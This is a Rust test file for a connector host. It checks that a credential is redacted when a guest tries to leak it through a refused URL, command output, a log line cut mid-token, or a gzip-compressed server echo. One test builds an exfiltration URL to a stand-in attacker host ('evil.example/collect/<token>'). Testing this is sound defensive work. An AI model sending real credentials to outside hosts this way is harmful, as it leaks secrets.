//! The credential's smaller ways out, each closed: a refused URL that carries it is logged
//! redacted; `check`'s answer is redacted; a log line is redacted before it is cut, so a token
//! across the cut leaves no prefix; a server that echoes it in a gzip body (although asked for
//! identity) gets it to the connector masked, since the host decodes before it masks.

use std::io::Write as _;

use crate::stub::{Reply, Stub};
use crate::support::{Host, Output, TOKEN, hex_source, test_guest_source, token_env};

/// The credential of the test-guest sources here. The guest is handed it reversed in a setting
/// too (a setting may not carry a secret as it is), as a connector that got hold of it some
/// other way.
const LEAKED: &str = "tok_inert_secret_5c2e71";

/// `text` reversed, as a TOML string: what the test guest reverses back with `reverse = true`.
fn reversed(text: &str) -> String {
    toml::Value::String(text.chars().rev().collect()).to_string()
}

fn run_guest(host: &Host, command: &str, mode: &str, settings: &str) -> Output {
    let source = host.source_file(
        "leaky.toml",
        &test_guest_source(
            "Leaky",
            mode,
            &format!("reverse = true\n{settings}"),
            "[secrets]\napi_token = \"${LEAK_TOKEN}\"\n",
        ),
    );
    host.run_with_env(
        &[command, "--source", source.to_str().unwrap()],
        &[("LEAK_TOKEN", LEAKED)],
    )
}

#[test]
fn a_refused_url_carrying_the_token_is_logged_redacted() {
    let host = Host::new();
    let output = run_guest(
        &host,
        "run",
        "egress",
        &format!(
            "target_url = {}",
            reversed(&format!("http://evil.example/collect/{LEAKED}/x"))
        ),
    );
    assert_eq!(output.code, 3, "{output:#?}");
    assert!(
        output.stderr.contains("refused an outgoing request")
            && output.stderr.contains("http://evil.example/collect/***/x"),
        "{}",
        output.stderr
    );
    assert!(!output.stderr.contains(LEAKED), "{}", output.stderr);
    let runs = host.run(&["runs", "--json"]);
    assert!(!runs.stdout.contains(LEAKED), "{}", runs.stdout);
}

#[test]
fn checks_answer_is_redacted_and_inert() {
    let host = Host::new();
    let output = run_guest(
        &host,
        "check",
        "speak",
        &format!(
            "text = {}",
            reversed(&format!("the token is {LEAKED}\u{1b}[2J"))
        ),
    );
    assert_eq!(output.code, 0, "{output:#?}");
    assert!(
        output.stdout.contains("OK: the token is ***\\x1b[2J"),
        "{}",
        output.stdout
    );
    assert!(!output.stdout.contains(LEAKED), "{}", output.stdout);
}

#[test]
fn a_token_across_the_log_lines_cut_leaves_no_prefix_behind() {
    let host = Host::new();
    // Lines are cut at 16 KiB: the token starts 10 bytes before the cut.
    let output = run_guest(
        &host,
        "run",
        "speak",
        &format!("text = {}\npad = {}", reversed(LEAKED), 16 * 1024 - 10),
    );
    assert_eq!(output.code, 0, "{output:#?}");
    assert!(
        !output.stderr.contains(&LEAKED[..10]),
        "the token's first bytes are in the log"
    );
    assert!(output.stderr.contains("....***"), "{}", output.stderr.len());
    let runs = host.run(&["runs", "--json"]);
    assert!(
        !runs.stdout.contains(&LEAKED[..10]),
        "in the run's warnings"
    );
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn a_gzip_echo_of_the_token_reaches_the_connector_masked() {
    // A Hex API that names its one project after the request's Authorization header, and
    // compresses the page although the request asked for identity.
    let upstream = Stub::start(|request| {
        let echoed = request.header("authorization").unwrap_or("none").to_owned();
        let page = serde_json::json!({
            "values": [{"id": "p1", "title": echoed}],
            "pagination": null,
        });
        Reply {
            headers: vec![
                ("content-type".to_owned(), "application/json".to_owned()),
                ("content-encoding".to_owned(), "gzip".to_owned()),
            ],
            ..Reply::ok(gzip(page.to_string().as_bytes()))
        }
    });
    let host = Host::new();
    let base = format!("{}api/v1", upstream.url());
    let source = host.source_file(
        "hex.toml",
        &hex_source("Gzip echo", &base, "max_retries = 0"),
    );
    let output = host.run_with_env(&["run", "--source", source.to_str().unwrap()], &token_env());
    assert_eq!(output.code, 0, "{output:#?}");
    let requests = upstream.requests();
    assert!(!requests.is_empty());
    for request in &requests {
        assert_eq!(
            request.header("accept-encoding"),
            Some("identity"),
            "{request:?}"
        );
        assert_eq!(
            request.header("authorization"),
            Some(format!("Bearer {TOKEN}").as_str())
        );
    }
    let project = host
        .resources(None)
        .into_iter()
        .find(|r| r["type"] == "hex_project")
        .expect("the project");
    assert_eq!(
        project["name"],
        format!("Bearer {}", "*".repeat(TOKEN.len())),
        "{project:#}"
    );

    // An encoding the host cannot decode (and so cannot mask) never reaches the connector.
    let brotli = Stub::start(|_| Reply {
        headers: vec![("content-encoding".to_owned(), "br".to_owned())],
        ..Reply::ok(format!("{{\"values\": [], \"echo\": \"{TOKEN}\"}}"))
    });
    let base = format!("{}api/v1", brotli.url());
    let source = host.source_file(
        "brotli.toml",
        &hex_source("Brotli echo", &base, "max_retries = 0"),
    );
    let output = host.run_with_env(&["run", "--source", source.to_str().unwrap()], &token_env());
    assert_eq!(output.code, 3, "{output:#?}");
    assert!(
        output.stderr.contains("encoded with `br`"),
        "{}",
        output.stderr
    );
    assert!(!output.stderr.contains(TOKEN), "{}", output.stderr);
}
